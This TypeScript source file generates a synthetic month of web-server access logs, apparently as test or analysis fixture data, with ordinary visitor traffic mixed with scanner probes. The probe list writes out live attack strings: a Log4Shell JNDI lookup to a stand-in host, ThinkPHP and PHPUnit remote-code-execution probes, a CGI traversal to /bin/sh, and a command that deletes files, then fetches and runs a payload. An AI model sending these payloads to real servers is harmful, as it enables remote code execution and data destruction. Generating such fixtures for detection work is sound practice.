// The web server's log of the busy clean host.

import type { Random } from "../random.ts";
import { accessTime, collectedAt } from "./time.ts";

const DAYS = 30;
const DAY = 86_400;

interface Line {
  readonly seconds: number;
  readonly text: string;
}

/** Requests of scanners for what they always ask for; a static site answers 200 to any question behind "?".
 *  */
const SCANNED: readonly (readonly [string, number])[] = [
  ["GET /wp-login.php HTTP/1.1", 404],
  ["GET /.env HTTP/1.1", 404],
  ["POST /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php HTTP/1.1", 404],
  ["GET /index.php?s=/Index/\\x5Cthink\\x5Capp/invokefunction&function=call_user_func_array HTTP/1.1", 404],
  ["GET /?x=\u0024{jndi:ldap://203.0.113.9:1389/a} HTTP/1.1", 200],
  ["POST /wls-wsat/CoordinatorPortType HTTP/1.1", 404],
  ["GET /%24%7B%28%23a%3D%40org.apache.commons.io.IOUtils%29%7D/ HTTP/1.1", 404],
  ["GET /actuator/gateway/routes HTTP/1.1", 404],
  ["POST /cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh HTTP/1.1", 400],
  ["GET /shell?cd+/tmp;rm+-rf+*;wget+http://203.0.113.9/jaws;sh+/tmp/jaws HTTP/1.1", 404],
  ["GET /setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=busybox&curpath=/ HTTP/1.1", 404],
  ["GET /containers/json HTTP/1.1", 404],
];

/** A month of visitors and scanners. */
export function webLog(by: Random): string {
  const out: Line[] = [];
  for (let index = 0; index < 4_000; index += 1) {
    const client = `198.51.100.${1 + by.below(200)}`;
    const request = by.pick([
      "GET / HTTP/1.1",
      "GET /app.js HTTP/2.0",
      "POST /api/login HTTP/2.0",
      "GET /img/1.webp HTTP/2.0",
    ]);
    const agent = '"Mozilla/5.0 (X11; Linux x86_64; rv:124.0) Gecko/20100101 Firefox/124.0"';
    out.push(hit(-by.below(DAYS * DAY), { client, request, status: 200, agent }));
  }
  for (let round = 0; round < 60; round += 1) {
    const start = -by.below(DAYS * DAY);
    const client = `203.0.113.${1 + by.below(60)}`;
    for (const [index, [request, status]] of SCANNED.entries()) {
      const agent = index === 4 ? '"\u0024{jndi:ldap://203.0.113.9:1389/b}"' : '"Mozilla/5.0 zgrab/0.x"';
      out.push(hit(start + index, { client, request, status, agent }));
    }
  }
  return `${out
    .sort((a, b) => a.seconds - b.seconds)
    .map(({ text }) => text)
    .join("\n")}\n`;
}

interface Hit {
  readonly client: string;
  readonly request: string;
  readonly status: number;
  readonly agent: string;
}

function hit(seconds: number, { client, request, status, agent }: Hit): Line {
  return {
    seconds,
    text: `${client} - - [${accessTime(collectedAt(seconds))}] "${request}" ${status} 612 "-" ${agent}`,
  };
}
